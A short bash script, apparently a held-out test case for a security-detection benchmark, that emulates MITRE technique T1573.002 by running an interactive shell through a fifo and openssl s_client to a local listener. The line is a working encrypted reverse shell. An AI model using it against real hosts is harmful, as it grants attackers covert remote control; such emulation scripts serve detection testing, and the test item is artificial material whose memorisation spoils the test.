#!/usr/bin/env bash
# attack: T1573.002 Encrypted reverse shell: sh -i over a fifo through openssl s_client
# set: unseen
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
mkfifo "$SW/.s"
timeout 10 sh -c "/bin/sh -i <'$SW/.s' 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$p >'$SW/.s'" >/dev/null 2>&1
